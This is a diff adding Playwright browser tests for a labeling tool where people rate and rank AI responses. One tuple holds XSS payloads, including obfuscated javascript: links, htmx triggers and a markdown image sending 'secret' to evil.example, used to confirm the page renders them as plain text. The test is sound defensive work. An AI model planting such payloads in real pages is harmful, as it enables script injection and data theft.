@@ -1,0 +1,390 @@
+"""A labeler at work in a real browser; what counts is what the database holds afterwards."""
+
+import asyncio
+import re
+
+from playwright.async_api import Page, Request, Route, expect
+
+from tests.browser.labeling_data import (
+    MODELS,
+    PASSWORD,
+    Item,
+    expire_leases,
+    make_place,
+    stored_rankings,
+    task_states,
+)
+from tests.browser.screen import Screen
+
+HOSTILE = (
+    "<script>alert(1)</script><svg onload=alert(2)></svg><details open ontoggle=alert(3)>",
+    "<img src=x onerror=alert(4)> ![x](http://evil.example/?q=secret) ![y][r]\n\n"
+    "[r]: http://evil.example/reference.png",
+    "[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](javascript&colon;alert(7)) "
+    "[d](&#x6A;avascript:alert(8)) <javascript:alert(9)> [e](java%0ascript:alert(10))",
+    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=) [b](//evil.example) "
+    "[c](/sign-out) [d](http://user:pw@evil.example) [e](vbscript:alert(12))",
+    '<div hx-get="/users" hx-trigger="load"></div> <div data-hx-post="/sign-out" '
+    "data-hx-trigger=load></div> <b hx-on:load=alert(13)>x</b>",
+    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example> "
+    "<style>@import '//evil.example/x.css'</style><iframe srcdoc='<script>alert(14)</script>'>"
+    "</iframe><form action=//evil.example><button formaction=//evil.example>x</button></form>",
+)
+
+
+async def complete(screen: Screen) -> None:
+    """Rate and rank everything with keys: the first response is best."""
+    for number, letter in enumerate(await screen.ids(), start=1):
+        await screen.page.keyboard.press(letter.lower())
+        await screen.page.keyboard.press("4")
+        await screen.page.keyboard.press(letter.lower())
+        await screen.page.keyboard.press(f"Shift+Digit{number}")
+    await expect(screen.status).to_have_text("Ready to submit")
+
+
+async def overflow(page: Page) -> int:
+    """By how many pixels the page is wider than its window."""
+    return await page.evaluate(
+        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
+    )
+
+
+async def test_a_labeler_signs_in_ranks_with_drag_and_ties_and_gets_the_next_task(
+    open_page, engine
+):
+    place = await make_place(engine, has_read=False)
+    page = await open_page()
+    screen = Screen(page)
+
+    await page.goto(place.label)
+    await page.get_by_label("Email address").fill(place.email)
+    await page.get_by_label("Password").fill(PASSWORD)
+    await page.get_by_role("button", name="Sign in").click()
+    await expect(page.get_by_text("Prefer the helpful answer.")).to_be_visible()
+    await page.get_by_role("button", name="I have read them").click()
+    await screen.ready()
+    ids, task = await screen.ids(), await screen.task()
+    assert list(ids) == ["A", "B", "C", "D"]
+
+    for letter, rating in (("A", 3), ("B", 7), ("C", 3), ("D", 1)):
+        await screen.rate(letter, rating)
+    await screen.drag("B", 1)
+    await screen.drag("A", 3)
+    await screen.drag("C", 3)
+    await screen.drag("D", 4)
+    flags = screen.card("D").locator("[data-flags]")
+    await flags.locator("summary").click()
+    await flags.get_by_label("Hallucination").check()
+    note = screen.card("B").locator("[data-note]")
+    await note.locator("summary").click()
+    await note.get_by_role("textbox").fill("Short and right.")
+    await expect(screen.status).to_have_text("Ready to submit")
+    await screen.submit.click()
+
+    await screen.is_another_than(task)
+    [ranking] = await stored_rankings(engine, place)
+    assert ranking.items == {
+        ids["B"]: Item(1, 7, [], "Short and right."),
+        ids["A"]: Item(2, 3, []),
+        ids["C"]: Item(2, 3, []),
+        ids["D"]: Item(3, 1, ["hallucination"]),
+    }
+    assert ranking.display_order == list(ids.values())
+    await expect(screen.status).to_have_text("4 not rated, 4 not ranked")
+
+
+async def test_the_keyboard_alone_ranks_and_submits(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    ids, task = await screen.ids(), await screen.task()
+    press = page.keyboard.press
+
+    for rating in "5264":
+        await press(rating)
+    for key in ("a", "Shift+Digit2", "Shift+Digit4", "=", "Shift+Digit1"):
+        await press(key)
+    await expect(screen.status).to_have_text("Ready to submit")
+    await press("Control+Enter")
+
+    await screen.is_another_than(task)
+    [ranking] = await stored_rankings(engine, place)
+    assert ranking.items == {
+        ids["D"]: Item(1, 4, []),
+        ids["A"]: Item(2, 5, []),
+        ids["B"]: Item(3, 2, []),
+        ids["C"]: Item(3, 6, []),
+    }
+
+
+async def test_nine_responses_take_at_most_nineteen_keys(open_page, engine):
+    place = await make_place(engine, responses=9)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    task = await screen.task()
+
+    keys = ["4"] * 9 + [f"Shift+Digit{row}" for row in range(1, 10)] + ["Control+Enter"]
+    for key in keys:
+        await page.keyboard.press(key)
+
+    await screen.is_another_than(task)
+    [ranking] = await stored_rankings(engine, place)
+    assert sorted(item.rank for item in ranking.items.values()) == list(range(1, 10))
+
+
+async def test_clicks_place_chips_and_take_them_back(open_page, engine):
+    place = await make_place(engine)
+    screen = Screen(await open_page(place.labeler_id))
+    await screen.open(place.label)
+
+    await screen.click_to("C", 2)
+    await screen.click_to("A", 2)
+    await expect(screen.card("A").locator("[data-rank-pill]")).to_have_text("Row 2 = C")
+    await screen.chip("C").click()
+    await screen.tray.click()
+    await expect(screen.tray.locator('[data-letter="C"]')).to_be_visible()
+    await expect(screen.status).to_have_text("4 not rated, 3 not ranked")
+
+
+async def test_the_rank_pill_of_a_card_places_it(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+
+    await screen.card("B").locator("[data-rank-pill]").click()
+    await (
+        page.get_by_role("button", name="Row 3", exact=True)
+        .and_(page.locator("[data-rank-menu] button"))
+        .click()
+    )
+
+    await screen.is_in_row("B", 3)
+
+
+async def test_an_untouched_board_and_a_partly_filled_one_cannot_be_submitted(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    sent: list[str] = []
+    page.on("request", lambda request: sent.append(request.method))
+    await screen.open(place.label)
+    task = await screen.task()
+
+    await expect(screen.submit).to_be_disabled()
+    await page.keyboard.press("Control+Enter")
+    await expect(page.locator("[data-announcer]")).to_have_text(
+        "Not complete: 4 not rated, 4 not ranked"
+    )
+
+    for key in ("5", "5", "5", "5", "a", "Shift+Digit1", "Shift+Digit2", "Shift+Digit3"):
+        await page.keyboard.press(key)
+    await expect(screen.status).to_have_text("1 not ranked")
+    await expect(screen.submit).to_be_disabled()
+    await page.keyboard.press("Control+Enter")
+    await expect(page.locator("[data-announcer]")).to_have_text("Not complete: 1 not ranked")
+
+    assert await screen.task() == task
+    assert set(sent) == {"GET"}
+    assert await stored_rankings(engine, place) == []
+
+
+async def test_a_response_that_cannot_be_judged_needs_no_rank(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    ids, task = await screen.ids(), await screen.task()
+
+    await complete(screen)
+    await screen.card("B").get_by_label("Cannot judge").check()
+    await expect(screen.chip("B")).to_have_count(0)
+    await page.keyboard.press("Control+Enter")
+
+    await screen.is_another_than(task)
+    [ranking] = await stored_rankings(engine, place)
+    assert {letter: ranking.items[ids[letter]].rank for letter in "ABCD"} == {
+        "A": 1, "B": None, "C": 2, "D": 3,
+    }  # fmt: skip
+
+
+async def test_skipping_with_a_reason_gives_the_next_task(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    task = await screen.task()
+
+    await page.get_by_role("button", name="Skip…").click()
+    await page.get_by_label("It needs expertise that I lack").check()
+    await page.get_by_role("button", name="Skip and go on").click()
+
+    await screen.is_another_than(task)
+    assert ("skipped", "expertise") in await task_states(engine, place)
+    assert await stored_rankings(engine, place) == []
+
+
+async def test_a_lost_lease_is_said_and_the_draft_is_kept(open_page, engine, complaints):
+    place = await make_place(engine, slates=1)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    ids = await screen.ids()
+    await complete(screen)
+    await expire_leases(engine, place)
+
+    await page.keyboard.press("Control+Enter")
+    await expect(page.get_by_role("alert")).to_contain_text("Your hold on this task has ended")
+    assert await stored_rankings(engine, place) == []
+    await page.get_by_role("link", name="Get a task").click()
+
+    await expect(screen.status).to_have_text("Ready to submit")
+    await screen.submit.click()
+    await expect(page.get_by_role("heading", name="Nothing to label right now")).to_be_visible()
+    [ranking] = await stored_rankings(engine, place)
+    assert [ranking.items[ids[letter]].rank for letter in "ABCD"] == [1, 2, 3, 4]
+    assert [line for line in complaints if "409" not in line] == []
+    complaints.clear()
+
+
+async def test_without_a_network_the_work_is_kept_and_sent_once_later(
+    open_page, engine, complaints
+):
+    place = await make_place(engine, slates=1)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    await complete(screen)
+    refused = asyncio.Event()
+
+    async def lose(route: Route) -> None:
+        refused.set()
+        await route.abort("connectionfailed")
+
+    await page.route("**/api/v1/tasks/*/ranking", lose)
+    await screen.submit.click()
+    await refused.wait()
+    await expect(page.get_by_role("alert")).to_contain_text("The server cannot be reached")
+    await expect(page.get_by_role("alert")).to_contain_text("Your work is kept")
+
+    await page.reload()
+    await screen.ready()
+    await expect(screen.status).to_have_text("Ready to submit")
+    await page.unroute("**/api/v1/tasks/*/ranking")
+    await screen.submit.click()
+    await expect(page.get_by_role("heading", name="Nothing to label right now")).to_be_visible()
+    [ranking] = await stored_rankings(engine, place)
+    assert ranking.version == 1
+    assert all("ERR_CONNECTION_FAILED" in line for line in complaints)
+    complaints.clear()
+
+
+async def test_an_answer_that_got_lost_on_its_way_back_is_not_stored_twice(
+    open_page, engine, complaints
+):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    task = await screen.task()
+    await complete(screen)
+    attempts: list[str] = []
+
+    async def lose_the_first_answer(route: Route) -> None:
+        attempts.append(route.request.headers["idempotency-key"])
+        answer = await route.fetch()
+        if len(attempts) == 1:
+            await route.abort("connectionreset")
+        else:
+            await route.fulfill(response=answer)
+
+    await page.route("**/api/v1/tasks/*/ranking", lose_the_first_answer)
+    await screen.submit.click()
+
+    await screen.is_another_than(task)
+    assert len(attempts) == 2
+    assert len(set(attempts)) == 1
+    assert len(await stored_rankings(engine, place)) == 1
+    assert all("ERR_CONNECTION_RESET" in line for line in complaints)
+    complaints.clear()
+
+
+async def test_a_reload_in_the_middle_of_a_task_keeps_what_was_done(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    screen = Screen(page)
+    await screen.open(place.label)
+    await screen.rate("C", 6)
+    await screen.click_to("C", 1)
+    await screen.click_to("A", 1)
+
+    await page.reload()
+    await screen.ready()
+
+    await screen.is_in_row("C", 1)
+    await screen.is_in_row("A", 1)
+    await expect(screen.card("C").get_by_role("radio", name="6")).to_be_checked()
+    await expect(screen.status).to_have_text("3 not rated, 2 not ranked")
+
+
+async def test_nothing_on_the_page_names_a_model(open_page, engine):
+    place = await make_place(engine)
+    page = await open_page(place.labeler_id)
+    bodies: list[str] = []
+
+    await Screen(page).open(place.label)
+    bodies.append(await page.content())
+    bodies.append(await (await page.request.get(place.label)).text())
+
+    for body in bodies:
+        assert not [name for name in MODELS if name in body]
+        assert "seed" not in re.sub(r"<[^>]+>", "", body)
+
+
+async def test_hostile_responses_are_only_text(open_page, engine):
+    place = await make_place(engine, slates=1, responses=6, texts=HOSTILE)
+    page = await open_page(place.labeler_id)
+    asked: list[str] = []
+
+    def on_request(request: Request) -> None:
+        asked.append(request.url)
+
+    page.on("request", on_request)
+    screen = Screen(page)
+
+    await screen.open(place.label)
+    await page.wait_for_load_state("networkidle")
+
+    own = re.compile(rf"^{re.escape(await page.evaluate('location.origin'))}/(static/|projects/)")
+    assert [url for url in asked if not own.match(url)] == []
+    links = await page.locator(".response-body a").evaluate_all("all => all.map(a => a.href)")
+    assert links == []
+    assert (
+        await page.locator(".response-body :is(script, img, svg, form, iframe, style)").count() == 0
+    )
+    await expect(page.get_by_text("alert(1)")).to_be_visible()
+
+
+async def test_on_a_phone_taps_place_and_nothing_overflows(open_page, engine):
+    place = await make_place(engine, texts=["word " * 300, "x" * 500])
+    page = await open_page(place.labeler_id, viewport={"width": 390, "height": 844}, has_touch=True)
+    screen = Screen(page)
+    await screen.open(place.label)
+    ids, task = await screen.ids(), await screen.task()
+    assert await overflow(page) == 0
+
+    for letter in "ABCD":
+        await screen.card(letter).locator(".rating label").nth(4).tap()
+    await page.get_by_role("button", name="Rank board").tap()
+    for letter, row in (("D", 1), ("C", 2), ("B", 2), ("A", 4)):
+        await screen.chip(letter).tap()
+        await screen.row(row).locator(".row-number").tap()
+        await screen.is_in_row(letter, row)
+    assert await overflow(page) == 0
+    await screen.submit.tap()
+
+    await expect(page.locator(f'[data-labeling]:not([data-task="{task}"])')).to_be_visible()
+    [ranking] = await stored_rankings(engine, place)
+    assert [ranking.items[ids[letter]].rank for letter in "DCBA"] == [1, 2, 2, 3]
